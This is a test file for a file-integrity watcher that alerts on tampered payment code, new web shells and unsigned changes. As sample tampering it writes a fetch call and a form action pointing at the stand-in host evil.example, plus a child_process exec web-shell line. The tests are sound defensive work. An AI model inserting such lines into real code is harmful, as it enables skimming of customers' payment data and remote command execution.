import assert from 'node:assert/strict';
import { appendFileSync, mkdirSync, mkdtempSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { buildManifest, generateReleaseKeys, loadPrivateKey, loadPublicKey, signManifest, writeRelease } from '../../src/integrity/manifest.js';
import { releaseRoots } from '../../src/integrity/paths.js';
import { startFileWatcher, type FileWatcher } from '../../src/integrity/watcher.js';
import { evidenceFiles, makeProjectTree, RecordingAlerts, writeTree } from './helpers.js';

const DETECTION_LIMIT_MS = 5000;
const cleanup: string[] = [];
const watchers: FileWatcher[] = [];
after(async () => {
  for (const w of watchers) await w.close();
  for (const d of cleanup) rmSync(d, { recursive: true, force: true });
});

async function setup(opts: { manifest?: boolean; dist?: boolean; rehashIntervalMs?: number; fsEvents?: boolean } = {}) {
  const root = makeProjectTree({ dist: opts.dist });
  cleanup.push(root);
  const runtime = opts.dist ? 'dist' : 'src';
  const manifest = opts.manifest === false ? null : await buildManifest(root, runtime, releaseRoots(root, runtime).roots);
  const alerts = new RecordingAlerts();
  const w = await startFileWatcher({ alerts, manifest, root, runtime, rehashIntervalMs: opts.rehashIntervalMs ?? 0, fsEvents: opts.fsEvents });
  watchers.push(w);
  return { root, alerts, w, manifest };
}

/** Performs a change and measures the time until the alert about `path` is raised. */
async function timeToAlert(alerts: RecordingAlerts, path: string, change: () => void): Promise<{ ms: number; kind: string; severity: string; file: ReturnType<typeof evidenceFiles>[number] }> {
  const from = alerts.raised.length;
  const since = Date.now();
  change();
  const a = await alerts.waitFor((x) => evidenceFiles(x).some((f) => f.path === path), DETECTION_LIMIT_MS + 1000, from);
  return { ms: a.at - since, kind: a.kind, severity: a.severity, file: evidenceFiles(a).find((f) => f.path === path)! };
}

const measured: Record<string, number> = {};
after(() => {
  console.log(`# detection times (ms): ${JSON.stringify(measured)}`);
});

describe('file watcher (signed manifest)', () => {
  test('a modified payment file, a new file (web shell) and a removed file are each alerted within 5 s', async () => {
    const { root, alerts, w } = await setup();
    assert.equal(w.mode, 'manifest');

    const mod = await timeToAlert(alerts, 'src/payments/service.ts', () => appendFileSync(join(root, 'src/payments/service.ts'), 'fetch("https://evil.example/c")\n'));
    measured.modified = mod.ms;
    assert.ok(mod.ms <= DETECTION_LIMIT_MS, `modified: ${mod.ms} ms`);
    assert.equal(mod.kind, 'payment_code_changed');
    assert.equal(mod.severity, 'critical');
    assert.equal(mod.file.change, 'modified');
    assert.match(mod.file.expected ?? '', /^[0-9a-f]{64}$/);
    assert.match(mod.file.actual ?? '', /^[0-9a-f]{64}$/);
    assert.notEqual(mod.file.expected, mod.file.actual);

    const shell = await timeToAlert(alerts, 'src/catalog/shell.js', () => writeFileSync(join(root, 'src/catalog/shell.js'), 'require("child_process").exec(q)\n'));
    measured.added = shell.ms;
    assert.ok(shell.ms <= DETECTION_LIMIT_MS, `added: ${shell.ms} ms`);
    assert.equal(shell.kind, 'file_added');
    assert.equal(shell.severity, 'critical');
    assert.equal(shell.file.expected, null);

    const rm = await timeToAlert(alerts, 'src/catalog/views.tsx', () => rmSync(join(root, 'src/catalog/views.tsx')));
    measured.removed = rm.ms;
    assert.ok(rm.ms <= DETECTION_LIMIT_MS, `removed: ${rm.ms} ms`);
    assert.equal(rm.kind, 'code_changed');
    assert.equal(rm.file.actual, null);

    // Evidence carries hashes, never contents.
    for (const a of alerts.raised) assert.ok(!JSON.stringify(a.evidence).includes('evil.example') && !JSON.stringify(a.evidence).includes('child_process'));
  });

  test('a file replaced by rename (how editors and cp write), twice, is seen both times', async () => {
    const { root, alerts } = await setup();
    const target = 'src/web/static/js/shop.js';
    const replace = (text: string) => () => {
      writeFileSync(join(root, 'src/web/static/js/.shop.js.tmp'), text);
      renameSync(join(root, 'src/web/static/js/.shop.js.tmp'), join(root, target));
    };
    const first = await timeToAlert(alerts, target, replace('/* skimmer 1 */'));
    measured.replaced = first.ms;
    assert.equal(first.kind, 'payment_code_changed');
    const second = await timeToAlert(alerts, target, replace('/* skimmer 2 */'));
    assert.ok(second.ms <= DETECTION_LIMIT_MS);
    assert.notEqual(first.file.actual, second.file.actual);
    // The temporary file in a static directory was not ignored either (it would be served).
  });

  test('a new directory with files, a node_modules change, package.json, and a burst grouped into one alert', async () => {
    const { root, alerts, w } = await setup();
    const dir = await timeToAlert(alerts, 'src/uploads/x/cmd.js', () => {
      mkdirSync(join(root, 'src/uploads/x'), { recursive: true });
      writeFileSync(join(root, 'src/uploads/x/cmd.js'), 'x');
    });
    assert.equal(dir.kind, 'file_added');
    const dep = await timeToAlert(alerts, 'node_modules/prodpkg/index.js', () => appendFileSync(join(root, 'node_modules/prodpkg/index.js'), '//x'));
    measured.nodeModules = dep.ms;
    assert.equal(dep.kind, 'code_changed');
    const nested = await timeToAlert(alerts, 'node_modules/prodpkg/node_modules/nested/index.js', () => appendFileSync(join(root, 'node_modules/prodpkg/node_modules/nested/index.js'), '//x'));
    assert.equal(nested.kind, 'code_changed');
    assert.equal(nested.file.change, 'modified');
    const pkg = await timeToAlert(alerts, 'package.json', () => appendFileSync(join(root, 'package.json'), '\n'));
    assert.equal(pkg.kind, 'code_changed');

    await w.idle();
    const before = alerts.raised.length;
    for (let i = 0; i < 50; i++) writeFileSync(join(root, `src/catalog/burst-${i}.js`), String(i));
    const burst = await alerts.waitFor((a) => evidenceFiles(a).some((f) => f.path.startsWith('src/catalog/burst-')), 6000, before);
    await w.idle();
    const burstAlerts = alerts.raised.slice(before).filter((a) => evidenceFiles(a).some((f) => f.path.startsWith('src/catalog/burst-')));
    assert.ok(burstAlerts.length <= 3, `a burst of 50 files makes ${burstAlerts.length} alerts, not 50`);
    const total = burstAlerts.reduce((n, a) => n + evidenceFiles(a).length + ((a.evidence as { more?: number }).more ?? 0), 0);
    assert.equal(total, 50);
    assert.equal(burst.kind, 'file_added');
  });

  test("editors' temporary files in the sources are ignored; the same names under dist/ are not", async () => {
    const { root, alerts, w } = await setup({ dist: true });
    // runtime dist: the TypeScript sources are not even watched, so write into dist and static.
    writeFileSync(join(root, 'dist/src/payments/.service.js.swp'), 'swap');
    const a = await alerts.waitFor((x) => evidenceFiles(x).some((f) => f.path === 'dist/src/payments/.service.js.swp'));
    assert.equal(a.kind, 'payment_code_changed');
    await w.close();

    const src = await setup();
    writeFileSync(join(src.root, 'src/payments/.service.ts.swp'), 'swap');
    writeFileSync(join(src.root, 'src/payments/service.ts~'), 'backup');
    writeFileSync(join(src.root, 'src/payments/4913'), '');
    await new Promise((r) => setTimeout(r, 800));
    await src.w.idle();
    assert.deepEqual(src.alerts.raised, [], 'no alert for swap, backup and probe files in src/');
    const checked = await src.w.checkNow();
    assert.deepEqual(checked, [], 'the full re-hash ignores them too');
  });

  test('close() stops it: no alert after closing', async () => {
    const { root, alerts, w } = await setup({ rehashIntervalMs: 200 });
    await w.close();
    appendFileSync(join(root, 'src/payments/service.ts'), '// after close\n');
    writeFileSync(join(root, 'src/catalog/late.js'), 'x');
    await new Promise((r) => setTimeout(r, 1200));
    assert.deepEqual(alerts.raised, []);
    assert.equal(w.watchedDirs(), 0);
  });

  test('a change that matches a newer, validly signed manifest on disk is a deployment: a warning, not critical', async () => {
    const root = makeProjectTree();
    const keys = mkdtempSync(join(tmpdir(), 'mamori-keys-'));
    cleanup.push(root, keys);
    const k = await generateReleaseKeys(keys);
    const priv = loadPrivateKey(k.privateFile);
    const { roots } = releaseRoots(root, 'src');
    const m1 = await buildManifest(root, 'src', roots, new Date(Date.now() - 60_000));
    await writeRelease(join(root, 'release'), m1, signManifest(m1, priv));
    const alerts = new RecordingAlerts();
    const w = await startFileWatcher({ alerts, manifest: m1, root, rehashIntervalMs: 0, release: { dir: join(root, 'release'), publicKey: loadPublicKey(k.publicFile) } });
    watchers.push(w);
    // The deployer puts the new signed manifest in place first, then the files.
    writeTree(root, { 'src/catalog/views.tsx': 'export const Product = () => "v2";\n' });
    const m2 = await buildManifest(root, 'src', roots);
    writeTree(root, { 'src/catalog/views.tsx': 'export const Product = () => null;\n' });
    await w.idle();
    alerts.raised.length = 0;
    await writeRelease(join(root, 'release'), m2, signManifest(m2, priv));
    writeTree(root, { 'src/catalog/views.tsx': 'export const Product = () => "v2";\n' });
    const a = await alerts.waitFor((x) => evidenceFiles(x).some((f) => f.path === 'src/catalog/views.tsx'));
    assert.equal(a.kind, 'release_changed_on_disk');
    assert.equal(a.severity, 'warning');
    // A file the new manifest does not explain is still critical.
    writeTree(root, { 'src/catalog/shell2.js': 'x' });
    const b = await alerts.waitFor((x) => evidenceFiles(x).some((f) => f.path === 'src/catalog/shell2.js'));
    assert.equal(b.kind, 'file_added');
    assert.equal(b.severity, 'critical');
  });
});

describe('file watcher (no manifest: baseline at start)', () => {
  test('baselines the files at start and reports changes against them', async () => {
    const { root, alerts, w } = await setup({ manifest: false });
    assert.equal(w.mode, 'baseline');
    assert.ok(w.expectedFiles > 5);
    const mod = await timeToAlert(alerts, 'src/checkout/views.tsx', () => appendFileSync(join(root, 'src/checkout/views.tsx'), '<form action="https://evil.example">'));
    assert.ok(mod.ms <= DETECTION_LIMIT_MS);
    assert.equal(mod.kind, 'payment_code_changed');
    assert.match(String((alerts.raised.at(-1)!.evidence as { comparedWith?: string }).comparedWith), /baseline/);
  });

  test('the periodic full re-hash alone finds changes (no file events)', async () => {
    const { root, alerts } = await setup({ fsEvents: false, rehashIntervalMs: 300 });
    const mod = await timeToAlert(alerts, 'psp/server.ts', () => appendFileSync(join(root, 'psp/server.ts'), '//x'));
    measured.rehashOnly = mod.ms;
    assert.equal(mod.kind, 'payment_code_changed');
    assert.ok(mod.ms <= DETECTION_LIMIT_MS);
    // Restoring the file and changing it again alerts again.
    const back = await timeToAlert(alerts, 'src/web/static/css/shop.css', () => appendFileSync(join(root, 'src/web/static/css/shop.css'), 'a{}'));
    assert.equal(back.severity, 'warning');
    assert.equal(back.kind, 'file_changed');
  });
});
